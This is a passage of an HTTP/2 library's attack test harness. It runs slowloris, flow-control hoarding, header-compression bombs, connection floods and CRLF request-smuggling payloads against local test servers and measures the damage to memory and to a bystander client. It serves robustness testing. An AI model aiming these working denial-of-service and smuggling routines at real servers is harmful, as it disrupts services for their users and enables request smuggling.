        client.send(client.get(target.big, 100), 100)
        client.wait(1.0)
        return client.outcome()


@attack
def zero_window_streams(target: Target) -> Outcome:
    """Ten connections with a hundred large answers each, for which no window is ever opened."""
    return _hoard(target, lambda client: client.send(client.get(target.big, 100), 100))


@attack
def header_echo_hoard(target: Target) -> Outcome:
    """The same with answers that are as large as their requests' expanded field sections."""
    return _hoard(target, lambda client: _ask_expanded(client, "/headers"))


@attack
def section_hoard(target: Target) -> Outcome:
    """Requests that are large only when expanded, and whose answers wait for a window.

    Twelve connections of them, then eight of small ones that fill what is left.  Where a server
    counts such sections against what it keeps for all its clients together, 200 KB sent leave
    nothing for anybody else.
    """
    outcome = Outcome()
    with ExitStack() as stack:
        clients = []
        for number in range(20):
            client = stack.enter_context(Attacker(target, settings=NO_WINDOW))
            clients.append(client)
            if number < 12:
                _ask_expanded(client, target.big)
            else:
                client.send(client.get(target.big, 100), 100)
        clients[0].wait(1.0)
        for client in clients:
            outcome.add(client.outcome())
    return outcome


def _ask_expanded(client: Attacker, path: str) -> None:
    """A hundred requests with field sections of 60 KiB, which are references but for one."""
    plain = b"".join(literal(*field) for field in request_fields(client.target, path))
    client.send(HeadersFrame(client.next_id(), plain + BOMB, end_stream=True).encode())
    octets = plain + b"\xbe" * 15
    ids = [client.next_id() for _ in range(99)]
    frames = [HeadersFrame(stream_id, octets, end_stream=True).encode() for stream_id in ids]
    client.send(b"".join(frames), len(frames))


@attack
def trailer_hoard(target: Target) -> Outcome:
    """Trailers that are large only when expanded, sent back by an /echo that no window lets out."""

    def ask(client: Attacker) -> None:
        plain = b"".join(literal(*field) for field in request_fields(target, "/echo"))
        post = plain.replace(literal(b":method", b"GET"), literal(b":method", b"POST"))
        client.send(HeadersFrame(client.next_id(), plain + BOMB, end_stream=True).encode())
        for _ in range(99):
            stream_id = client.next_id()
            client.send(
                HeadersFrame(stream_id, post).encode()
                + DataFrame(stream_id, b"x").encode()
                + HeadersFrame(stream_id, b"\xbe" * 16, end_stream=True).encode(),
                3,
            )

    return _hoard(target, ask, connections=20)


@attack
def lines_hoard(target: Target) -> Outcome:
    """Requests of 1 750 short field lines, whose answers wait for a window.

    RFC 9113 counts 32 octets for what a line costs beside its own; objects cost more.
    """

    def ask(client: Attacker) -> None:
        plain = b"".join(literal(*field) for field in request_fields(target, target.big))
        octets = plain + literal(b"ab", b"cd") * 1750
        for _ in range(60):
            client.send(HeadersFrame(client.next_id(), octets, end_stream=True).encode())

    return _hoard(target, ask, connections=3, patience=WORK_S)


@attack
def upload_hoard(target: Target) -> Outcome:
    """Eighty requests on two connections with 1 000 000 octets of content each, never ended."""
    outcome = Outcome()
    piece = bytes(16000)
    with ExitStack() as stack:
        clients = [stack.enter_context(Attacker(target)) for _ in range(2)]
        for client in clients:
            ids = [client.begin_post("/headers") for _ in range(40)]
            for _ in range(62):
                for stream_id in ids:
                    client.pour(stream_id, DataFrame(stream_id, piece).encode(), len(piece), 1)
        clients[0].wait(0.5)
        for client in clients:
            outcome.add(client.outcome())
    return outcome


def _hoard(
    target: Target,
    ask: Callable[[Attacker], object],
    connections: int = 10,
    patience: float = VERDICT_S,
) -> Outcome:
    outcome = Outcome()
    with ExitStack() as stack:
        clients = [
            stack.enter_context(Attacker(target, settings=NO_WINDOW)) for _ in range(connections)
        ]
        for client in clients:
            ask(client)
        clients[0].wait(0.5)
        for client in clients:
            outcome.add(client.outcome(patience=patience))
    return outcome


# -- slowness ----------------------------------------------------------------------------------


@attack
def silent(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris before the first octet: connect, and say nothing."""
    with Attacker(target, begins=False, seconds=seconds) as client:
        client.wait_ended()
        return client.outcome(ask=False)


@attack
def slow_preface(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris in the connection preface, which comes octet by octet."""
    with Attacker(target, begins=False, seconds=seconds) as client:
        client.dribble(CLIENT_PREFACE, 0.2)
        client.wait_ended()
        return client.outcome(ask=False)


@attack
def no_settings(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris after the preface: the SETTINGS that must follow never come."""
    with Attacker(target, begins=False, seconds=seconds) as client:
        client.send(CLIENT_PREFACE)
        client.wait_ended()
        return client.outcome(ask=False)


@attack
def slow_field_block(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris in a field block: HEADERS without END_HEADERS, now and then a CONTINUATION."""
    with Attacker(target, seconds=seconds) as client:
        client.send(HeadersFrame(1, client.block(), end_headers=False).encode())
        while not client.is_over:
            client.send(ContinuationFrame(1, literal(b"a", b"b"), end_headers=False).encode())
            client.wait(0.3)
        return client.outcome(ask=False)


@attack
def slow_frame(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris in a frame: HEADERS of 16 384 octets, octet by octet."""
    with Attacker(target, seconds=seconds) as client:
        octets = client.block() + FRAGMENT
        client.dribble(HeadersFrame(1, octets[:16384], end_stream=True).encode())
        return client.outcome(ask=False)


@attack
def slow_body(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris (R.U.D.Y.) in a request's content, an octet at a time."""
    with Attacker(target, seconds=seconds) as client:
        stream_id = client.begin_post("/headers")
        while not client.is_over and stream_id not in client.done:
            client.send(DataFrame(stream_id, b"x").encode())
            client.wait(0.1)
        return client.outcome()


@attack
def slow_body_streamed(target: Target, seconds: float = SECONDS) -> Outcome:
    """The same to a handler that takes the content as it comes, and answers meanwhile."""
    with Attacker(target, seconds=seconds) as client:
        stream_id = client.begin_post("/echo")
        while not client.is_over and stream_id not in client.done:
            client.send(DataFrame(stream_id, b"x").encode())
            client.wait(0.1)
        return client.outcome()


@attack
def slow_reader(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slow read: the windows are wide open, and the socket is read octet by octet."""
    with Attacker(target, settings=WIDE, reads=False, seconds=seconds) as client:
        client.send(WIDEN)
        client.send(client.get(target.big, 20), 20)
        client.wait_reset(reads=1)
        # What was read was not looked at, so frames cannot be told apart any more.
        client.said.endings[client.ending or "open"] += 1
        return client.said


@attack
def no_reader(target: Target, seconds: float = SECONDS) -> Outcome:
    """The same without reading an octet."""
    with Attacker(target, settings=WIDE, reads=False, seconds=seconds) as client:
        client.send(WIDEN)
        client.send(client.get(target.big, 20), 20)
        client.wait_reset()
        client.said.endings[client.ending or "open"] += 1
        return client.said


@attack
def zero_window_held(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slow read by flow control: an answer for which no window is ever opened."""
    with Attacker(target, settings=NO_WINDOW, seconds=seconds) as client:
        client.send(client.get(target.big))
        client.wait_ended()
        return client.outcome()


@attack
def window_trickle(target: Target, seconds: float = SECONDS) -> Outcome:
    """The same with a window of one octet now and then, so that it is never quite still."""
    with Attacker(target, settings=NO_WINDOW, seconds=seconds) as client:
        client.send(client.get(target.big))
        while not client.is_over and 1 not in client.done:
            client.send(WindowUpdateFrame(1, 1).encode())
            client.wait(0.1)
        return client.outcome()


@attack
def idle_held(target: Target, seconds: float = SECONDS) -> Outcome:
    """A connection that was used once and is kept open without a stream."""
    with Attacker(target, seconds=seconds) as client:
        client.send(client.get("/healthz"))
        client.wait_ended()
        return client.outcome()


@attack
def idle_pinged(target: Target, seconds: float = SECONDS) -> Outcome:
    """The same with a PING now and then, so that the connection is never silent."""
    with Attacker(target, seconds=seconds) as client:
        client.send(client.get("/healthz"))
        while not client.is_over:
            client.send(PingFrame(b"stillon!").encode())
            client.wait(0.1)
        return client.outcome()


# -- connections -------------------------------------------------------------------------------


def _hold(
    outcome: Outcome, address: tuple[str, int], count: int, first: bytes, seconds: float
) -> None:
    """Open so many sockets, send each the same first octets, and see which are closed in time.

    seconds   from when the last of them has been opened
    A server that lets newcomers wait is not asked a thousand times: CONNECTS_LATE_MAX are enough.
    """
    with ExitStack() as stack:
        open_: list[socket.socket] = []
        poll = select.poll()
        by_number = {}
        for _ in range(count):
            try:
                sock = stack.enter_context(connected(address))
                sock.send(first)
            except OSError:
                outcome.endings["refused"] += 1
                if outcome.endings["refused"] == CONNECTS_LATE_MAX:
                    break
                continue
            outcome.octets += len(first)
            open_.append(sock)
            poll.register(sock, select.POLLIN)
            by_number[sock.fileno()] = sock
        deadline = time.monotonic() + seconds
        while by_number and (left := deadline - time.monotonic()) > 0:
            for number, _ in poll.poll(left * 1000):
                try:
                    data = by_number[number].recv(65536)
                except OSError:
                    data = b""
                outcome.octets_back += len(data)
                if not data:
                    outcome.endings["eof"] += 1
                    poll.unregister(number)
                    del by_number[number]
        if by_number:
            outcome.endings["open"] = len(by_number)


@attack
def connection_flood(target: Target, count: int = 1100, seconds: float = 1.5) -> Outcome:
    """More connections at once than a server keeps; each says its preface and then nothing."""
    outcome = Outcome()
    hello = CLIENT_PREFACE + SettingsFrame().encode()
    _hold(outcome, target.address, count, hello, seconds)
    return outcome


@attack
def half_open_handshakes(target: Target, seconds: float = SECONDS) -> Outcome:
    """Fifty TCP connections to a TLS port, on which no handshake begins."""
    outcome = Outcome()
    if target.tls_url is None:
        outcome.note = "no TLS there"
        return outcome
    _hold(outcome, target.tls_address, 50, b"", seconds)
    return outcome


@attack
def slow_handshake(target: Target, seconds: float = SECONDS) -> Outcome:
    """Slowloris in the TLS handshake: a ClientHello that comes octet by octet."""
    outcome = Outcome()
    if target.tls_url is None:
        outcome.note = "no TLS there"
        return outcome
    tls = Target(target.tls_url)
    with Attacker(tls, begins=False, seconds=seconds) as client:
        # RFC 8446 §5.1: a handshake record of 512 octets, a ClientHello of 508 in it.
        client.dribble(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(501))
        outcome.endings[client.ending or "open"] += 1
        outcome.octets = client.said.octets
    return outcome


# -- smuggling ---------------------------------------------------------------------------------


@dataclass
class Smuggled:
    """One malformed request: field lines as octets, content, and whether it must be refused."""

    fields: Block
    content: bytes = b""
    refused: bool = True


def smuggled(target: Target) -> dict[str, Smuggled]:
    """The requests of the smuggling attack, by name; RFC 9113 §8.2, §8.3, §10.3."""
    plain = request_fields(target, "/headers")
    authority = plain[2][1]
    post = request_fields(target, "/headers", method="POST")

    def path(octets: bytes) -> Block:
        return [*plain[:3], (b":path", octets)]

    return {
        "CR in a value": Smuggled([*plain, (b"a", b"b\rc")]),
        "LF in a value": Smuggled([*plain, (b"a", b"b\nc")]),
        "CRLF and a field in a value": Smuggled([*plain, (b"a", b"b\r\nhost: evil")]),
        "NUL in a value": Smuggled([*plain, (b"a", b"b\0c")]),
        "CR in a name": Smuggled([*plain, (b"a\rb", b"c")]),
        "LF in a name": Smuggled([*plain, (b"a\nb", b"c")]),
        "NUL in a name": Smuggled([*plain, (b"a\0b", b"c")]),
        "colon in a name": Smuggled([*plain, (b"a: b", b"c")]),
        "space in a name": Smuggled([*plain, (b"a b", b"c")]),
        "no name": Smuggled([*plain, (b"", b"c")]),
        "upper case name": Smuggled([*plain, (b"Upper", b"c")]),
        "space before a value": Smuggled([*plain, (b"a", b" b")]),
        "space after a value": Smuggled([*plain, (b"a", b"b\t")]),
        "CRLF in :path": Smuggled(path(b"/headers HTTP/1.1\r\nhost: evil\r\n\r\nGET /x")),
        "space in :path": Smuggled(path(b"/headers HTTP/1.1")),
        "empty :path": Smuggled(path(b"")),
        "CRLF in :method": Smuggled([(b":method", b"GET / HTTP/1.1\r\na: b"), *plain[1:]]),
        "space in :method": Smuggled([(b":method", b"GET /"), *plain[1:]]),
        "CRLF in :authority": Smuggled([*plain[:2], (b":authority", b"a\r\nb: c"), plain[3]]),
        "LF in :scheme": Smuggled([plain[0], (b":scheme", b"http\n"), *plain[2:]]),
        "slashes in :scheme": Smuggled([plain[0], (b":scheme", b"http://evil/?"), *plain[2:]]),
        ":method twice": Smuggled([plain[0], *plain]),
        ":path twice": Smuggled([*plain, (b":path", b"/other")]),
        ":authority twice": Smuggled([*plain, (b":authority", b"evil")]),
        "pseudo-header field late": Smuggled([plain[0], (b"a", b"b"), *plain[1:]]),
        "unknown pseudo-header field": Smuggled([*plain, (b":evil", b"1")]),
        ":status in a request": Smuggled([*plain, (b":status", b"200")]),
        "no :path": Smuggled(plain[:3]),
        "no :method": Smuggled(plain[1:]),
        "host differs": Smuggled([*plain, (b"host", b"evil")]),
        "host twice": Smuggled([*plain, (b"host", authority), (b"host", b"evil")]),
        "user in :authority": Smuggled([*plain[:2], (b":authority", b"a@b"), plain[3]]),
        "connection": Smuggled([*plain, (b"connection", b"close")]),
        "keep-alive": Smuggled([*plain, (b"keep-alive", b"1")]),
        "proxy-connection": Smuggled([*plain, (b"proxy-connection", b"close")]),
        "upgrade": Smuggled([*plain, (b"upgrade", b"h2c")]),
        "transfer-encoding": Smuggled([*post, (b"transfer-encoding", b"chunked")], b"0\r\n\r\n"),
        "te: chunked": Smuggled([*plain, (b"te", b"chunked")]),
        "content-length differs twice": Smuggled(
            [*post, (b"content-length", b"3"), (b"content-length", b"4")], b"abc"
        ),
        "content-length as a list": Smuggled([*post, (b"content-length", b"3, 3")], b"abc"),
        "content-length below content": Smuggled([*post, (b"content-length", b"2")], b"abc"),
        "content-length above content": Smuggled([*post, (b"content-length", b"4")], b"abc"),
        "content-length with a sign": Smuggled([*post, (b"content-length", b"+3")], b"abc"),
        "content-length of no digits": Smuggled([*post, (b"content-length", b"")], b"abc"),
        "content-length in other digits": Smuggled(
            [*post, (b"content-length", "\u0663".encode())], b"abc"
        ),
        "an honest one": Smuggled([*post, (b"content-length", b"3")], b"abc", refused=False),
    }


@attack
def smuggling(target: Target) -> Outcome:
    """Fields that would begin another request, or end one early, behind an HTTP/1.1 gateway.

    The note says how many were refused, by RST_STREAM, 4xx or the end of the connection, and
    names those that were not.
    """
    outcome = Outcome()
    requests = smuggled(target)
    passed = []
    for name, request in requests.items():
        with Attacker(target, seconds=1.0) as client:
            octets = b"".join(literal(*line) for line in request.fields)
            stream_id = client.next_id()
            frame = HeadersFrame(stream_id, octets, end_stream=not request.content).encode()
            if request.content:
                frame += DataFrame(stream_id, request.content, end_stream=True).encode()
            client.send(frame)
            while not client.is_over and stream_id not in client.done:
                client.read(0.1)
            answer = client.statuses.get(stream_id, client.said.goaway or client.ending)
            is_refused = not answer.startswith("2")
            if is_refused != request.refused:
                passed.append(f"{name}: {answer or 'nothing'}")
            outcome.add(client.said)
    outcome.goaway = outcome.debug = ""
    outcome.responses.clear()
    outcome.endings["went on"] = 1
    right = len(requests) - len(passed)
    outcome.note = f"{right} of {len(requests)} as they should be" + "".join(
        f"; {text}" for text in passed
    )
    return outcome


# -- who suffers -------------------------------------------------------------------------------


class Bystander:
    """An honest client on connections of its own, which asks again and again and notes the time.

    every         seconds from one request to the next
    fresh_every   so many requests, then a new connection; 0: none is ended on purpose
    pool          somebody else's, to ask on; None: its own
    waits         of each answer so far, in seconds
    failures      what went wrong, as texts
    """

    def __init__(
        self,
        url: str,
        path: str = "/healthz",
        every: float = 0.02,
        fresh_every: int = 10,
        pool: ConnectionPool | None = None,
    ) -> None:
        self.url = url + path
        self.every = every
        self.fresh_every = fresh_every
        self.waits: list[float] = []
        self.failures: list[str] = []
        self._pool = pool
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._run, name="bystander", daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._ended.set()
        self._thread.join(20.0)

    @property
    def slowest(self) -> float:
        return max(self.waits, default=0.0)

    def wait(self, answers: int = 1) -> None:
        """Until so many more answers have come; whatever comes, no longer than for one request."""
        wanted = len(self.waits) + answers
        deadline = time.monotonic() + BYSTANDER_S
        while len(self.waits) < wanted and time.monotonic() < deadline:
            time.sleep(0.005)

    def mark(self) -> tuple[list[float], list[str]]:
        """The waits and failures so far; both begin anew."""
        waits, self.waits = self.waits, []
        failures, self.failures = self.failures, []
        return waits, failures

    def _run(self) -> None:
        if self._pool is not None:
            self._ask_on(self._pool)
            return
        with ConnectionPool(trust_env=False, verify=False) as pool:
            self._ask_on(pool)

    def _ask_on(self, pool: ConnectionPool) -> None:
        asked = 0
        while not self._ended.wait(self.every):
            asked += 1
            if self.fresh_every and asked % self.fresh_every == 0:
                for connection in pool.connections:
                    connection.close()
            began = time.monotonic()
            try:
                response = pool.request("GET", self.url, timeout=Timeout(total=BYSTANDER_S))
                if response.status != 200:
                    self.failures.append(f"status {response.status}")
            except H2liteError as error:
                self.failures.append(f"{type(error).__name__}: {error}")
            self.waits.append(time.monotonic() - began)


class Memory:
    """The memory of a process, in octets, as Linux counts it."""

    def __init__(self, pid: int) -> None:
        self._status = Path(f"/proc/{pid}/status")
        self._clear = Path(f"/proc/{pid}/clear_refs")
        self.before = 0
        self.begin()

    def begin(self) -> None:
        """Count growth from now on."""
        try:
            self.before = self._read("VmRSS")
            self._clear.write_text("5")  # the peak is what is resident now
        except OSError:  # it has gone, or the peak cannot be made to begin anew
            self.before = 0 if self.is_gone else self._read("VmHWM")

    @property
    def is_gone(self) -> bool:
        """The process has ended, though nobody may have asked for its exit code yet."""
        try:
            return "\nState:\tZ" in self._status.read_text()
        except OSError:
            return True

    @property
    def growth(self) -> int:
        """The peak since `begin`, above what was resident then."""
        return max(0, self._read("VmHWM") - self.before)

    def _read(self, name: str) -> int:
        for line in self._status.read_text().splitlines():
            if line.startswith(name + ":"):
                return int(line.split()[1]) * 1024
        return 0


class Served:
    """An `h2lite serve` in a process of its own."""

    def __init__(self, process: subprocess.Popen[str], url: str, log: Path) -> None:
        self.process = process
        self.url = url
        self.pid = process.pid
        self.log = log
        self._seen = 0

    @property
    def is_alive(self) -> bool:
        return self.process.poll() is None

    def faults(self) -> str:
        """The tracebacks that it has written to stderr since this was asked last."""
        text = self.log.read_text(errors="replace")[self._seen :]
        self._seen += len(text)
        return text[text.index("Traceback") :] if "Traceback" in text else ""


@contextmanager
def served(*options: str) -> Iterator[Served]:
    """An `h2lite serve` on a free port, which has ended when the block has."""
    with tempfile.TemporaryDirectory(prefix="h2lite-attacks-") as folder:
        log = Path(folder) / "stderr"
        argv = [sys.executable, "-m", "h2lite", "serve", "--port", "0", "--grace", "0", *options]
        with log.open("w") as stderr:
            process = subprocess.Popen(
                argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=stderr, text=True
            )
        with process:
            try:
                assert process.stdout is not None
                line = process.stdout.readline().split()
                if len(line) < 2:
                    raise RuntimeError(f"{argv} says nothing:\n{log.read_text()}")
                yield Served(process, line[1], log)
            finally:
                process.send_signal(signal.SIGTERM)
                try:
                    process.wait(5.0)
                except subprocess.TimeoutExpired:
                    process.kill()


# -- the table ---------------------------------------------------------------------------------


@dataclass
class Row:
    outcome: Outcome
    growth: int | None
    waits: list[float]
    failures: list[str]

    @property
    def cells(self) -> list[str]:
        growth = "-" if self.growth is None else f"{self.growth / 2**20:.1f}"
        slowest = f"{max(self.waits, default=0.0) * 1000:.0f}"
        if self.failures:
            slowest += f" ({len(self.failures)} failed: {self.failures[0][:60]})"
        said = self.outcome
        name, seconds = said.attack, f"{said.seconds:.1f}"
        return [name, said.answer[:150], f"{said.frames}", growth, slowest, seconds]


TITLES = ["attack", "outcome", "frames sent", "memory +MB", "slowest answer ms", "s"]


def measured(
    name: str, target: Target, pid: int | None, bystander: Bystander
) -> Row:
    """One attack, with what it did to memory and to the bystander."""
    bystander.wait()
    memory = None if pid is None else Memory(pid)
    bystander.mark()
    over = threading.Event()
    watch = threading.Thread(target=_watch, args=(memory, pid, over))
    watch.start()
    try:
        outcome = ATTACKS[name](target)
    except OSError as error:
        outcome = Outcome(name, note=f"no connection: {error}")
    finally:
        over.set()
        watch.join()
    bystander.wait(2)
    waits, failures = bystander.mark()
    growth = None
    try:
        growth = None if memory is None else memory.growth
    except OSError:
        outcome.note += "; the server is gone"
    return Row(outcome, growth, waits, failures)


def _watch(memory: Memory | None, pid: int | None, over: threading.Event) -> None:
    """End a server of ours that takes more than the machine should give it."""
    while memory is not None and pid is not None and not over.wait(0.1):
        if not memory.is_gone and memory.growth > GROWTH_STOP:
            os.kill(pid, signal.SIGKILL)
            return


def _print(cells: list[str]) -> None:
    print("| " + " | ".join(cells) + " |", flush=True)


def run_table(title: str, target: Target, pid: int | None, names: list[str]) -> list[str]:
    """Print what each attack does to one server; return those left when one has ended it."""
    print(f"\n### {title}\n")
    _print(TITLES)
    _print(["---"] * len(TITLES))
    path = "/healthz"
    with Bystander(target.url, path, fresh_every=10) as bystander:
        time.sleep(0.5)
        waits, failures = bystander.mark()
        nobody = Outcome("(none)", note="nobody attacks", seconds=0.5)
        _print(Row(nobody, None, waits, failures).cells)
        for place, name in enumerate(names, 1):
            _print(measured(name, target, pid, bystander).cells)
            if pid is not None and Memory(pid).is_gone:
                print("\nthe server has ended")
                return names[place:]
    return []


def _attack_ours(names: list[str], limits: list[str]) -> None:
    options = [word for limit in limits for word in ("--limit", limit)]
    with served("-q", *options) as clear, served("-q", "--tls", *options) as tls:
        target = Target(clear.url, tls.url)
        run_table("h2lite serve " + " ".join(limits), target, clear.pid, names)
        for server in (clear, tls):
            state = "alive" if server.is_alive else f"ended with {server.process.returncode}"
            print(f"\n{server.url}: {state} {server.faults()}")


def _attack_peers(names: list[str], only: list[str]) -> None:
    from .peers import servers

    with tempfile.TemporaryDirectory(prefix="h2lite-attacks-") as folder:
        ground = servers.Ground(Path(folder))
        try:
            for name in only:
                left = names
                while left:
                    try:
                        url = ground._start_server(name, servers.CLEAR)
                        pid = ground.peers[-1].process.pid
                        tls_url = ground.url_of(name, servers.TLS)
                    except (pytest.skip.Exception, RuntimeError) as error:
                        print(f"\n### {name}\n\nnot started: {error}")
                        break
                    left = run_table(name, Target(url, tls_url, "/big"), pid, left)
        finally:
            ground.stop()


PEERS = ("nghttpd", "nginx", "haproxy", "go", "node", "hypercorn")


def main(arguments: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks", description=__doc__)
    parser.formatter_class = argparse.RawDescriptionHelpFormatter
    parser.add_argument("urls", nargs="*", metavar="URL", help="servers on loopback")
    parser.add_argument("--peers", nargs="?", const=",".join(PEERS), metavar="NAME,...")
    parser.add_argument("--only", metavar="NAME,...", help="these attacks (--list tells them)")
    parser.add_argument("--limit", action="append", default=[], metavar="NAME=VALUE")
    parser.add_argument("--list", action="store_true", help="the attacks' names and what they do")
    options = parser.parse_args(arguments)
    names = options.only.split(",") if options.only else [*ATTACKS]
    if options.list:
        for name in names:
            print(f"{name:32} {(ATTACKS[name].__doc__ or '').splitlines()[0]}")
        return 0
    for url in options.urls:
        run_table(url, Target(url), None, names)
    if not options.urls and not options.peers:
        _attack_ours(names, options.limit)
    if options.peers:
        _attack_peers(names, options.peers.split(","))
    return 0


if __name__ == "__main__":
    sys.exit(main())
